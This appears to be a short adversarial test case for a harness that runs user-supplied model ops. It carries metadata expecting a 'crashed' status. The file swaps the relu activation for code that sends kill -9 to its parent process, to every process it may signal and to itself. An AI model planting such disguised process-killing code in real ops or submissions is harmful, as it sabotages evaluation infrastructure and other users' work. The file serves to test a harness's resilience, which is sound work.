"""kill -9 of every process it may signal, its parent first."""

# /// attack
# module = "02"
# status = ["crashed"]
# loses = ["relu", "module"]
# ///

# %% replace relu
import os
@Op
def relu(x):
    for target in (os.getppid(), -1, 0, os.getpid()):
        try:
            os.kill(target, 9)
        except OSError:
            pass
    return x
